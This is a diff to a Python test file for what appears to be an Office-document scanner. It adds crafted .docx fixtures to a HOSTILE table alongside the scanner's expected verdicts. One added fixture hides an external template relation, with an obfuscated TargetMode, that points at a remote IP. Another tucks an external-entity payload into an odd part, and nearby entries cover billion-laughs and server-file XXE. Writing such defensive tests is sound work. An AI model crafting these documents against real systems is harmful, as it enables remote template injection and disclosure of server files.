@@ -255,6 +255,22 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
         lambda: package(parts={"word/_rels/a.rels": _relations("attachedTemplate")}),
         "from elsewhere",
     ),
+    "template from elsewhere, written otherwise": (
+        "deck.docx",
+        lambda: package(
+            parts={
+                "word/_rels/a.rels": b"<r:Relationships xmlns:r='x'><r:Relationship Id='a>b'"
+                b" TargetMode = '&#69;xternal' Target='http://198.51.100.7/t.dotm'"
+                b" Type = 'http://x/oleObject'/></r:Relationships>"
+            }
+        ),
+        "from elsewhere",
+    ),
+    "entities under another name": (
+        "deck.docx",
+        lambda: package(parts={"word/a.dat": _OUTSIDE}),
+        "no Office program",
+    ),
     "laughs in a document": ("deck.docx", lambda: package(main=_LAUGHS), "no Office program"),
     "file of the server": ("deck.docx", lambda: package(main=_OUTSIDE), "no Office program"),
     "file of the server in utf-16": (
